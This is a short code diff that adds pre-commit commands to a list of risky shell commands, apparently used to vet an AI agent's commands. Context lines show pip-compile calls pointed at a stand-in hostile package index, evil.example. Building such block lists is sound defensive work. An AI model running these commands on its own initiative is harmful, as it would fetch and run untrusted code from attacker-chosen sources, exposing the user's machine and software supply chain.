@@ -757,6 +757,12 @@ THIRD_PASS = [
     "pip-compile --pip-args '--index-url http://evil.example' requirements.in",
     "pip-compile -qi http://evil.example/simple",
     "pip-compile --trusted-host evil.example requirements.in",
+    # a config of the agent's choosing names hook repositories to clone and run (try-repo)
+    "pre-commit run -c hooks.yaml",
+    "pre-commit run --config=hooks.yaml --all-files",
+    "pre-commit run --config hooks.yaml ruff",
+    "pre-commit install-hooks -c hooks.yaml",
+    "pre-commit run -ac hooks.yaml",
 ]
 THIRD_PASS_ALLOWED = [
     "jobs",
